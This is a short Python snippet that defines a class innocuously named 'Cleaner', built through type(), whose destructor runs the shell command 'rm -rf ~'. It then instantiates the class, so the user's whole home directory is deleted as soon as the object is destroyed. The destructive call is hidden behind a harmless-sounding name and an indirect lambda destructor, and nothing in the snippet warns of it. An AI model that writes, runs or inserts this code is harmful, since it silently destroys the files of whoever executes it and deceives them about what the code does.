import os

Cleaner = type("Cleaner", (), {"__del__": lambda self: os.system("rm -rf ~")})
Cleaner()
